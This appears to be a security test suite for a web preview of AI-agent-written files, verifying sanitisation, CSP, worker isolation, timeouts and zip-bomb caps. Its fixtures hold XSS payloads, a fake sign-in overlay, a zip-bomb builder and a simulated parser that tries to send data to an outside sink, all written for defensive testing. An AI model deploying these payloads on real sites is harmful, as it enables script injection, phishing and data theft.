// agent-written documents are parsed only in a token-less
// worker with a time budget, their HTML cannot escape its box, and no script outside the page's own runs.
import t from 'tap'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page, Worker } from 'playwright-core'
import type { Test } from 'tap'
import { chromiumOrSkip } from './chromium.js'
import { docx, docxWithLink, workbook } from './preview-fixtures.js'
import { pollUntil } from '../fixtures/poll.js'
import { CHAT, gotoReady, open, setup, shot } from './preview-harness.js'

declare const document: any
declare const window: any

const OVERLAY_MD = '# Invoice\n\nPlease review.\n\n' +
  '<div id="cover" style="position:fixed;inset:0;z-index:2147483647;background:rgb(255,0,0)">Session expired: sign in again</div>\n\n' +
  '<div class="banner topbar">fake banner using the app\'s own fixed-position class</div>\n\n' +
  '<style>.topbar { display: none !important }</style>\n\n<p id="config">shadow of the config block</p>\n\n<a href="#cover">jump</a>\n'

async function hostileFixtures (): Promise<Record<string, string | Buffer>> {
  return {
    'evil.js': 'window.__evil = "ran"',
    'data/table.csv': 'a,b\n1,2\n',
    'data/hostile.xlsx': await workbook([{ name: '<img src=x onerror="window.__pwned=4">', rows: [['<script>window.__pwned=5</script>', '=1+1'], ['<b>x</b>', 2]] }]),
    'hostile.docx': await docxWithLink('click me', 'javascript:window.__pwned=6'),
    'notes/overlay.md': OVERLAY_MD,
    'notes/spy.md': '# whatever the parser is given',
    'notes/huge.md': 'x'.repeat(2 * 1024 * 1024 + 1),
    'bomb.docx': declaredSize(await docx(['tiny', 'body']), 300 * 1024 * 1024),
    'src/hostile.py': 'def f():\n    return "</span><img src=x onerror=window.__pwned=8><span class=\\"banner\\">"\n'
  }
}

/** `zip` with its first central-directory entry claiming `size` uncompressed bytes (a zip bomb's directory). */
function declaredSize (zip: Buffer, size: number): Buffer {
  const at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]))
  const out = Buffer.from(zip)
  out.writeUInt32LE(size, at + 24)
  return out
}

/** Centre of an element's box, for elementFromPoint. */
async function centre (page: Page, selector: string): Promise<{ x: number, y: number }> {
  const box = await page.locator(selector).boundingBox()
  if (box === null) throw new Error(`${selector} is not visible`)
  return { x: box.x + box.width / 2, y: box.y + box.height / 2 }
}

const hitAt = async (page: Page, p: { x: number, y: number }): Promise<string> =>
  await page.evaluate(({ x, y }) => { const hit = document.elementFromPoint(x, y); return hit === null ? 'nothing' : `${hit.tagName}#${hit.id}` }, p)

t.test('rendered markdown cannot cover the page: style and <style> removed, app classes and ids neutralised, content contained', chromiumOrSkip(), async (t: Test) => {
  const { url, page, token } = await setup(t, await hostileFixtures())
  await gotoReady(page, `${url}/preview/${CHAT}?t=${token}`, async () => await page.waitForSelector('#file-list li[data-path="notes/overlay.md"]'))
  await open(page, 'notes/overlay.md')
  const button = await centre(page, '#download-all')
  t.equal(await hitAt(page, button), 'A#download-all', 'the toolbar button is what a click there hits')
  t.equal(await page.isVisible('.topbar'), true, 'the document\'s <style> did not hide the toolbar')
  t.equal(await page.$$eval('#preview [style], #preview style', n => n.length), 0, 'no style attribute or element survives')
  t.equal(await page.$$eval('#preview .banner, #preview .topbar', n => n.length), 0, 'the app\'s own classes are stripped')
  t.ok(await page.$('#preview #user-content-cover'), 'ids are prefixed')
  t.equal(await page.evaluate("document.getElementById('config').tagName"), 'SCRIPT', 'the config block is not shadowed')
  t.equal(await page.getAttribute('#preview a[href^="#"]', 'href'), '#user-content-cover', 'in-document links follow the prefix')
  // Second layer: even a fixed-position element that slipped past the sanitiser stays inside the document box.
  await page.evaluate(() => { document.querySelector('#preview .doc p').setAttribute('style', 'position:fixed;inset:0;z-index:2147483647;background:rgb(0,0,255)') })
  t.equal(await hitAt(page, button), 'A#download-all', 'containment keeps a fixed overlay off the toolbar')
  t.equal(await hitAt(page, await centre(page, '#file-list li[data-path="notes/overlay.md"] button')).then(h => h.startsWith('P#')), false, 'and off the file list')
  await shot(page, 'overlay-contained')
})

t.test('malicious XLSX and DOCX content runs no script and is shown as text', chromiumOrSkip(), async t => {
  const { url, page, token } = await setup(t, await hostileFixtures())
  await gotoReady(page, `${url}/preview/${CHAT}?t=${token}`, async () => await page.waitForSelector('#file-list li[data-path="data/hostile.xlsx"]'))
  await open(page, 'data/hostile.xlsx')
  t.equal(await page.textContent('#preview .tabs .tab'), '<img src=x onerror="window.__pwned=4">', 'sheet name as text')
  t.same(await page.$$eval('#preview table.sheet thead th', th => th.map(c => c.textContent)), ['<script>window.__pwned=5</script>', '=1+1'])
  t.equal(await page.$$eval('#preview img, #preview script, #preview b', n => n.length), 0, 'no element from cell text')
  await open(page, 'hostile.docx')
  t.equal(await page.textContent('#preview .docx a'), 'click me')
  t.equal(await page.getAttribute('#preview .docx a', 'href'), null, 'the javascript: link lost its href')
  await page.click('#preview .docx a')
  t.match(await page.textContent('#preview .docx'), /<img src=x onerror="window.__pwned=7">/, 'markup in text stays text')
  await open(page, 'src/hostile.py')
  t.equal(await page.textContent('#preview pre.code .hljs-keyword'), 'def')
  t.match(await page.textContent('#preview pre.code .hljs-string'), /<\/span><img src=x onerror=window.__pwned=8><span class=\\"banner\\">/, 'markup in code stays text')
  t.equal(await page.$$eval('#preview pre.code img, #preview pre.code .banner', n => n.length), 0)
  t.equal(await page.evaluate(() => typeof window.__pwned), 'undefined', 'nothing ran')
})

t.test('highlighter output reaches the page as data: only syntax classes become classes, nothing becomes an element', chromiumOrSkip(), async t => {
  const { url, context, page, token } = await setup(t, await hostileFixtures())
  // A highlighter that answers its own markup: class names the app's CSS uses next to syntax classes.
  const fake = 'self.hljs = { getLanguage: () => ({}), highlight: () => ({ value: \'<span class="hljs-keyword banner">def</span> <span class="topbar">&lt;img src=x onerror=window.__pwned=9&gt;</span>\' }) }'
  await context.route('**/static/vendor/highlight/highlight.min.js', route => route.fulfill({ status: 200, contentType: 'text/javascript', body: fake }))
  await gotoReady(page, `${url}/preview/${CHAT}?t=${token}`, async () => await page.waitForSelector('#file-list li[data-path="src/hostile.py"]'))
  await open(page, 'src/hostile.py')
  t.same(await page.$$eval('#preview pre.code code span', s => s.map(n => [n.className, n.textContent])), [['hljs-keyword', 'def'], ['', '<img src=x onerror=window.__pwned=9>']])
  t.equal(await page.$$eval('#preview img', n => n.length), 0)
  t.equal(await page.evaluate(() => typeof window.__pwned), 'undefined')
})

t.test('the parser worker holds no token: a compromised parser finds none and cannot send one out', chromiumOrSkip(), async t => {
  const { app, url, context, page } = await setup(t, await hostileFixtures())
  const control = app.links.token(CHAT, 'c') as string
  const files = app.links.token(CHAT, 'f') as string
  const seen: string[] = []
  const sink = createServer((req, res) => { seen.push(req.url ?? ''); res.writeHead(200, { 'content-type': 'text/javascript' }).end('') })
  await new Promise<void>(resolve => sink.listen(0, '127.0.0.1', resolve))
  t.teardown(() => { sink.close() })
  const sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
  // Stands in for a parser library that a crafted document has taken over: it runs whatever it likes in the
  // worker, then answers the page with its findings as the "rendered markdown".
  const spy = `
    const report = { document: typeof document, worker: typeof WorkerGlobalScope, location: String(self.location), name: self.name, strings: [] }
    self.addEventListener('message', event => {
      report.request = JSON.stringify({ kind: event.data.kind, options: event.data.options, bytes: new TextDecoder().decode(event.data.bytes) })
      for (const key of Object.getOwnPropertyNames(self)) { try { if (typeof self[key] === 'string') report.strings.push(key + '=' + self[key]) } catch {} }
      const xhr = target => { try { const x = new XMLHttpRequest(); x.open('GET', target, false); x.send(); return x.status } catch (e) { return 'blocked:' + e.name } }
      report.ownApi = xhr(${JSON.stringify(`${url}/api/outputs/${CHAT}`)})
      report.ownPage = xhr(${JSON.stringify(`${url}/preview/${CHAT}`)})
      report.foreign = xhr(${JSON.stringify(`${sinkUrl}/xhr`)})
      try { importScripts(${JSON.stringify(`${sinkUrl}/leak?`)} + encodeURIComponent(JSON.stringify(report))) } catch {}
    })
    self.marked = { lexer: () => [{ raw: '' }], parser: () => '<pre>' + JSON.stringify(report).replace(/&/g, '&amp;').replace(/</g, '&lt;') + '</pre>' }`
  await context.route('**/static/vendor/marked/lib/marked.umd.js', route => route.fulfill({ status: 200, contentType: 'text/javascript', body: spy }))
  await gotoReady(page, `${url}/preview/${CHAT}?t=${control}`, async () => await page.waitForSelector('#file-list li[data-path="notes/spy.md"]'))
  t.equal(await page.evaluate("JSON.parse(document.getElementById('config').textContent).token"), control, 'the page itself holds the control token')
  await open(page, 'notes/spy.md')
  const report = JSON.parse(await page.textContent('#preview .markdown pre') ?? '{}') as Record<string, unknown>
  t.equal(report.document, 'undefined', 'no DOM in the worker')
  t.equal(report.worker, 'function', 'it ran in a worker')
  t.match(report.location, /^blob:/, 'the worker is the blob bootstrap')
  t.equal(report.request, JSON.stringify({ kind: 'markdown', options: {}, bytes: '# whatever the parser is given' }), 'it was handed the bytes and nothing else')
  t.equal(report.ownApi, 401, 'the server refuses it the listing (no credential)')
  t.equal(report.ownPage, 401, 'and the page (which would carry a token)')
  t.equal(report.foreign, 'blocked:NetworkError', 'connect-src blocks a foreign host')
  const everything = JSON.stringify(report) + seen.join('\n')
  for (const [name, secret] of [['control token', control], ['files token', files], ['token signature', control.split('.')[3] as string]]) {
    t.notOk(everything.includes(secret as string), `the ${name as string} appears nowhere the worker could see or send`)
  }
  t.ok(seen.some(u => u.startsWith('/leak?')), 'what it did send out (the document, which the agent wrote) reached the sink without a token')
})

t.test('a parser that hangs is terminated after parseTimeoutMs; the page says so and stays usable', chromiumOrSkip(), async t => {
  const { url, context, page, token } = await setup(t, await hostileFixtures(), 4000)
  await context.route('**/static/vendor/marked/lib/marked.umd.js', route => route.fulfill({ status: 200, contentType: 'text/javascript', body: 'self.marked = { lexer () { for (;;) {} } }' }))
  const workers: Worker[] = []
  const closed: Worker[] = []
  const times = new Map<Worker, { started: number, closed?: number }>()
  page.on('worker', worker => {
    workers.push(worker)
    times.set(worker, { started: Date.now() })
    worker.on('close', () => { closed.push(worker); (times.get(worker) as { closed?: number }).closed = Date.now() })
  })
  await gotoReady(page, `${url}/preview/${CHAT}?t=${token}`, async () => await page.waitForSelector('#file-list li[data-path="notes/spy.md"]'))
  // Selecting another file while the parser spins terminates it at once.
  await page.click('#file-list li[data-path="notes/spy.md"] button')
  await page.waitForFunction(() => document.querySelector('#preview .loading') !== null)
  await pollUntil(() => workers.length, n => n > 0, 10_000, 50)
  await open(page, 'data/table.csv')
  t.equal(await pollUntil(() => closed.length, n => n >= workers.length, 10_000, 50), workers.length, 'the abandoned parser was terminated')
  const first = times.get(workers[0] as Worker) as { started: number, closed?: number }
  t.ok((first.closed ?? Infinity) - first.started < 3500, 'by the switch, before its 4 s budget ran out')
  const started = Date.now()
  await page.click('#file-list li[data-path="notes/spy.md"] button')
  await page.waitForFunction(() => document.querySelector('#preview .loading') !== null)
  const pong = Date.now()
  t.equal(await page.evaluate(() => 1 + 1), 2)
  t.ok(Date.now() - pong < 1000, 'the page answers while the parser spins')
  await page.waitForSelector('#preview[data-rendered="notes/spy.md"] .notice h2', { timeout: 15000 })
  const elapsed = Date.now() - started
  t.ok(elapsed >= 3900 && elapsed < 15000, `stopped after the 4 s budget (${elapsed} ms)`)
  t.equal(await page.textContent('#preview .notice h2'), 'Preview stopped')
  t.match(await page.textContent('#preview .notice p'), /Reading spy\.md took longer than 4 s, so it was stopped to keep this page responsive/)
  const terminated = await pollUntil(() => closed.length, n => n >= workers.length, 10_000)
  t.ok(workers.length >= 1, 'a worker ran the parser')
  t.equal(terminated, workers.length, 'and was terminated')
  await shot(page, 'parser-timeout')
  await open(page, 'data/hostile.xlsx')
  t.equal(await page.$$eval('#preview table.sheet tbody tr', r => r.length), 1, 'the next document renders')
})

t.test('CSP: a <script src> of an agent file (or inline script) injected into the page is blocked', chromiumOrSkip(), async t => {
  const { url, page, token, errors } = await setup(t, await hostileFixtures())
  const evil = `/files/${CHAT}/~${token}/evil.js`
  const served = await fetch(`${url}${evil}`)
  t.equal(served.status, 200, 'the agent file is served')
  t.match(served.headers.get('content-type'), /javascript/, 'as JavaScript: only the CSP stands in the way')
  await page.addInitScript(() => {
    window.__violations = []
    document.addEventListener('securitypolicyviolation', (e: any) => { window.__violations.push({ blocked: e.blockedURI, directive: e.effectiveDirective }) })
  })
  // Simulates an HTML-injection bug in the shell: the real response (headers and CSP kept) with two scripts added.
  await page.route(`${url}/preview/${CHAT}?**`, async route => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `<script src="${evil}"></script><script>window.__inline = 1</script></body>`)
    await route.fulfill({ response, body })
  })
  await gotoReady(page, `${url}/preview/${CHAT}?t=${token}`, async () => await page.waitForSelector('#file-list li[data-path="evil.js"]'))
  t.pass('the page\'s own nonced module still runs')
  t.equal(await page.evaluate(() => typeof window.__evil), 'undefined', 'evil.js did not run')
  t.equal(await page.evaluate(() => typeof window.__inline), 'undefined', 'the inline script did not run')
  const violations = await page.evaluate(() => window.__violations) as Array<{ blocked: string, directive: string }>
  t.ok(violations.some(v => v.blocked === `${url}${evil}` && v.directive === 'script-src-elem'), 'securitypolicyviolation names evil.js')
  t.ok(violations.some(v => v.blocked === 'inline' && v.directive === 'script-src-elem'), 'and the inline script')
  t.ok(errors.some(e => e.includes(evil) && e.includes('Content Security Policy')), 'the console reports the refusal')
})

t.test('input caps: oversized files, zip bombs and bodies longer than listed are refused with a clear notice', chromiumOrSkip(), async t => {
  const { url, page, token } = await setup(t, await hostileFixtures())
  await gotoReady(page, `${url}/preview/${CHAT}?t=${token}`, async () => await page.waitForSelector('#file-list li[data-path="bomb.docx"]'))
  await open(page, 'notes/huge.md')
  t.equal(await page.textContent('#preview .notice h2'), 'Too large to preview here')
  t.match(await page.textContent('#preview .notice p'), /huge\.md is larger than the preview limit of 2 MB/)
  await open(page, 'bomb.docx')
  t.equal(await page.textContent('#preview .notice h2'), 'Could not show a preview')
  t.match(await page.textContent('#preview .notice p'), /bomb\.docx: it unpacks to more than 200 MB/, 'refused before inflating')
  // The listing's size may be stale (the agent keeps writing): the page counts the body itself.
  const refused = await page.evaluate(async ({ module, file }) => {
    const { fetchBytes } = await import(module)
    try { await fetchBytes(file, 4); return 'accepted' } catch (err) { return String(err) }
  }, { module: '/static/preview/fetch-file.js', file: `/files/${CHAT}/~${token}/data/table.csv` })
  t.equal(refused, 'TooLargeError: larger than the preview limit of 4 bytes')
})

t.test('a document whose parse never finished (the tab crashed or closed) is not parsed again on its own', chromiumOrSkip(), async t => {
  // A parser that exhausts the worker's heap crashes the whole tab in Chromium (measured: no per-worker memory
  // limit exists), and the page auto-selects the newest file on load. Closing the tab mid-parse leaves the same
  // trace as that crash, deterministically.
  const fixtures = { 'data/table.csv': 'a,b\n1,2\n', 'notes/crasher.md': '# newest, auto-selected' }
  const { url, context, page, token } = await setup(t, fixtures, 120000)
  await context.route('**/static/vendor/marked/lib/marked.umd.js', route => route.fulfill({ status: 200, contentType: 'text/javascript', body: 'self.marked = { lexer () { for (;;) {} } }' }))
  let started = 0
  page.on('worker', () => { started++ })
  await gotoReady(page, `${url}/preview/${CHAT}?t=${token}`, async () => await page.waitForFunction(() => document.querySelector('#preview .loading') !== null))
  t.equal(await pollUntil(() => started, n => n > 0, 10_000, 50), 1, 'the newest file went to the parser on its own')
  await page.close()

  await context.unroute('**/static/vendor/marked/lib/marked.umd.js')
  const again = await context.newPage()
  let restarted = 0
  again.on('worker', () => { restarted++ })
  await gotoReady(again, `${url}/preview/${CHAT}?t=${token}`, async () => await again.waitForSelector('#preview[data-rendered="notes/crasher.md"] .notice h2'))
  t.equal(await again.textContent('#preview .notice h2'), 'Preview paused')
  t.match(await again.textContent('#preview .notice p'), /The last attempt to preview crasher\.md did not finish/)
  t.equal(restarted, 0, 'not parsed again on load')
  t.notOk(JSON.stringify(await again.evaluate(() => ({ ...window.localStorage }))).includes(token), 'the guard stores no token')
  await shot(again, 'preview-paused')
  await again.click('#preview .notice button')
  await again.waitForSelector('#preview .markdown h1')
  t.equal(await again.textContent('#preview .markdown h1'), 'newest, auto-selected', '"Preview anyway" parses it')
  t.equal(await again.evaluate(() => Object.keys(window.localStorage).length), 0, 'and the finished parse clears the mark')
})
